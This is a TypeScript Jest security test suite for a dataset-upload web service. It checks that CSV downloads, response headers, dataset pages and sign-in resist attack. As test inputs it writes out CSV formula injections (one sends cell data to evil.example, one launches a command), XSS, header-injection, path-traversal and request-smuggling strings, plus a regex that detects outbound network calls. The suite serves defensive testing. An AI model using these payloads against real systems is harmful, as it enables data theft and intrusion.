import { createHook } from 'node:async_hooks';
import { readdirSync, readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, test } from '@jest/globals';
import {
  type Answer,
  aPerson,
  CHEAP_PASSWORDS,
  call,
  PASSWORD,
  type Person,
} from '../service/homes.ts';
import { startService } from '../support/built-service.ts';
import { emptyDatabase } from '../support/empty-database.ts';

const SITE = 'https://almanac.example';
const INGEST = '/functions/v1/ingest-dataset';
const LIST = '/functions/v1/datasets';

const data = await emptyDatabase();
const home = await startService({
  port: 0,
  ...data.options,
  siteFolder: 'dist/site',
  passwordCost: CHEAP_PASSWORDS,
  settings: { siteUrl: SITE, uploadsPerMinute: 0, signUpsPerAddress: 1000 },
});
afterAll(async () => {
  await home.stop();
  await data.giveBack();
});

/** Names as an attacker gives them: formulas, markup, ends of lines, marks of direction. */
const NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+cmd|calc!A0',
  '@SUM(1)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'a\r\nSet-Cookie: x=1',
  'a"; filename="evil.exe',
  '../../etc/passwd',
  '\u202Etxt.exe',
];

let ada: Person;
const stored: { id: string; name: string }[] = [];
beforeAll(async () => {
  ada = await aPerson(home, '=1+1"><script>alert(1)</script>\r\nX-Evil: 1');
  for (const name of NAMES) {
    const { body } = await call(home, INGEST, {
      method: 'POST',
      token: ada.accessToken,
      body: {
        name,
        description: name,
        rows: [
          { Year: 1961, '01_max': -5.5, '01_rain': 1e21 },
          { Year: 1, '12_min': 5e-324 },
        ],
      },
    });
    stored.push({ id: (body.dataset as { id: string }).id, name });
  }
});

const everyRoute = async (): Promise<Answer[]> => {
  const paths = home.routes.map(({ path }) => path.replace(/:id\{[^}]*\}/, stored[0]?.id ?? ''));
  const pages = [
    '/',
    '/sign-in',
    '/account',
    `/datasets/${stored[0]?.id}`,
    '/nothing',
    '/config.json',
  ];
  return Promise.all(
    [...paths, ...pages].map((path) => call(home, path, { headers: { accept: 'text/html,*/*' } })),
  );
};

describe('names that strangers give', () => {
  it('never stand in a downloaded CSV, which is numbers and fixed names of columns alone', async () => {
    for (const { id } of stored) {
      const { body, headers } = await call(home, `${LIST}/${id}.csv`);
      const [head = '', ...rows] = String(body.text).trim().split('\r\n');
      expect(head).toMatch(/^Year(,(0[1-9]|1[0-2])_(max|min|rain))+$/);
      for (const cell of rows.flatMap((row) => row.split(',')))
        expect(cell).toMatch(/^(-?\d+(\.\d+)?(e[+-]\d+)?)?$/);
      const [, own, titled = ''] =
        /^attachment; filename="(.*)"; filename\*=UTF-8''(.*)$/.exec(
          headers.get('content-disposition') ?? '',
        ) ?? [];
      expect(own).toBe(`dataset-${id}.csv`);
      // No mark of a name gets through, as none may end a header or begin a path.
      expect(decodeURIComponent(titled)).toMatch(/^[\p{L}\p{N}-]+\.csv$/u);
    }
  });

  it('end no line of a header', async () => {
    for (const { id } of stored)
      for (const path of ['', '.csv', '.json'].map((end) => `${LIST}/${id}${end}`)) {
        const { headers, status } = await call(home, path);
        expect(status).toBe(200);
        expect([headers.get('set-cookie'), headers.get('x-evil')]).toEqual([null, null]);
        // Of what is theirs only the account's name is in a header, and every sign of it is encoded.
        expect(headers.get('etag')).toMatch(/^(W\/)?"[\w.!~*'()%-]+"$/);
      }
  });

  it('are data in every answer, which a browser must not take for a page', async () => {
    for (const { id } of stored) {
      const { headers } = await call(home, `${LIST}/${id}`, { headers: { accept: 'text/html' } });
      expect(headers.get('content-type')).toBe('application/json; charset=utf-8');
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('are text in the page of a dataset: its elements and attributes are the same for each', async () => {
    const pages = await Promise.all(
      stored.map(async ({ id }) => (await call(home, `/datasets/${id}`)).body.text),
    );
    const markup = pages.map((page) =>
      String(page)
        .match(/<[!/]?[\w-]+| [\w:-]+="/g)
        ?.join(''),
    );
    expect(new Set(pages).size).toBe(stored.length);
    expect(new Set(markup).size).toBe(1);
  });
});

describe('headers of a caller', () => {
  test.each([
    { name: 'another Host', header: 'Host: evil.example' },
    { name: 'another forwarded host', header: 'Host: x\r\nX-Forwarded-Host: evil.example' },
    {
      name: 'another address of its own',
      header: 'Host: x\r\nX-Forwarded-For: 10.0.0.1\r\nForwarded: host=evil.example',
    },
  ])('lead no link elsewhere: $name', async ({ header }) => {
    const answer = await raw(
      `GET ${LIST}?limit=1 HTTP/1.1\r\n${header}\r\nConnection: close\r\n\r\n`,
    );
    expect(answer).toContain(`"url":"${SITE}/records/`);
    expect(answer).not.toContain('evil.example/');
  });

  test.each([
    { name: 'a byte that is no letter', key: '\x80\xff' },
    { name: 'a tab', key: 'a\tb' },
    { name: 'a quote that does not end', key: '"abc' },
    { name: 'a name of JavaScript', key: '__proto__' },
    { name: 'another header folded into it', key: 'a\r\n Set-Cookie: x=1' },
  ])('bring none of their own into the answer, with $name for a key', async ({ key }) => {
    const answer = await raw(
      `POST ${INGEST} HTTP/1.1\r\nHost: x\r\nIdempotency-Key: ${key}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    );
    expect(answer).toMatch(/^HTTP\/1\.1 4\d\d /);
    expect(answer).not.toMatch(/^set-cookie:/im);
  });

  test.each([
    {
      name: 'two lengths',
      text: `POST ${INGEST} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nContent-Length: 0\r\n\r\n`,
    },
    {
      name: 'a length beside pieces',
      text: `POST ${INGEST} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    },
    {
      name: 'a line that ends in half',
      text: `GET / HTTP/1.1\r\nHost: x\nX: GET /healthz HTTP/1.1\r\n\r\n`,
    },
  ])('hide no second request from a proxy: $name', async ({ text }) => {
    const answer = await raw(
      `${text}GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
    );
    expect(answer.match(/^HTTP\/1\.1 \d+/gm)).toEqual(['HTTP/1.1 400']);
  });
});

describe('a foreign page', () => {
  it('finds no cookie to ride on: no answer sets one, and none lets a browser send any', async () => {
    for (const { headers } of await everyRoute()) {
      expect(headers.get('set-cookie')).toBeNull();
      expect(headers.get('access-control-allow-credentials')).toBeNull();
    }
  });

  test.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'])(
    'can store nothing by the form %s, with which a browser asks nobody first',
    async (type) => {
      const headers = { 'content-type': type, cookie: `sb-access-token=${ada.accessToken}` };
      const sent = JSON.stringify({ name: 'Ridden', rows: [{ Year: 1 }] });
      const pushed = await call(home, INGEST, { method: 'POST', raw: sent, headers });
      expect(pushed.status).toBe(401);
      const owned = await call(home, INGEST, {
        method: 'POST',
        token: ada.accessToken,
        raw: sent,
        headers,
      });
      expect(owned.status).toBe(415);
    },
  );

  it('cannot frame a page of the site, nor one that says an error', async () => {
    const pages = (await everyRoute()).filter(({ headers }) =>
      headers.get('content-type')?.startsWith('text/html'),
    );
    expect(pages.length).toBeGreaterThanOrEqual(5);
    for (const { headers } of pages)
      expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
  });

  it('changes nothing by a link: what is asked by GET answers the same again', async () => {
    const before = await call(home, `${LIST}?limit=100`);
    await everyRoute();
    expect((await call(home, `${LIST}?limit=100`)).body).toEqual(before.body);
  });
});

describe('whether an address has an account', () => {
  const signIn = (email: string) =>
    call(home, '/auth/v1/token?grant_type=password', {
      method: 'POST',
      body: { email, password: 'not the right one' },
    });

  /** The hash takes nearly all the time of a sign-in, so the same number of them is the same time. */
  async function hashesOf(work: () => Promise<unknown>): Promise<number> {
    let hashes = 0;
    const hook = createHook({
      init: (_, type) => void (type === 'SCRYPTREQUEST' && hashes++),
    }).enable();
    await work();
    hook.disable();
    return hashes;
  }

  test.each([
    { name: 'an unknown address', email: () => 'nobody@example.org' },
    { name: 'what is no address', email: () => 'nobody' },
    { name: 'an account in other letters', email: () => ada.email.toUpperCase() },
    { name: 'an account', email: () => ada.email },
  ])('is told by a wrong password neither in words nor in work: $name', async ({ email }) => {
    let answer: Answer | undefined;
    const hashes = await hashesOf(async () => {
      answer = await signIn(email());
    });
    const { code, error_code, msg } = answer?.body ?? {};
    expect([answer?.status, code, error_code, hashes]).toEqual([
      400,
      400,
      'invalid_credentials',
      1,
    ]);
    expect(msg).toBe((await signIn('somebody.else@example.org')).body.msg);
  });

  it('is told by signing up, which is counted by address and can be closed', async () => {
    const again = await call(home, '/auth/v1/signup', {
      method: 'POST',
      body: { email: ada.email, password: PASSWORD },
    });
    expect(again).toMatchObject({ status: 422, body: { error_code: 'user_already_exists' } });
  });
});

it('the service calls nobody: its sources hold nothing that could, but for what its operator names', () => {
  const sources = readdirSync('src/service', { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.ts'))
    .map((name) => ({ name, text: readFileSync(join('src/service', name), 'utf8') }));
  expect(sources.length).toBeGreaterThan(50);
  const calls =
    /(?<![.\w])fetch\(|\b(https?|net|tls|dgram)\.(get|request|connect)\(|createConnection|node:(https|tls|dns|dgram|http2)'|createRemoteJWKSet|nodemailer|child_process/;
  expect(
    sources
      .filter(({ text }) => calls.test(text))
      .map(({ name }) => name)
      .sort(),
  ).toEqual([
    // The mail server of the operator.
    'hosts/node/mailer.ts',
    // The keys of the project, at the address its platform gives it.
    'hosts/supabase/serve-functions.ts',
    // PostgreSQL's own programs, on this machine.
    'store/embedded/embedded-database.ts',
  ]);
});

/** Sent as it is, because a client would mend it. */
function raw(text: string): Promise<string> {
  return new Promise((resolve, reject) => {
    let heard = '';
    const line = connect(Number(new URL(home.address).port), 'localhost');
    line.on('data', (piece) => {
      heard += piece;
    });
    line.once('error', reject);
    line.once('close', () => resolve(heard));
    line.write(Buffer.from(text, 'latin1'));
  });
}
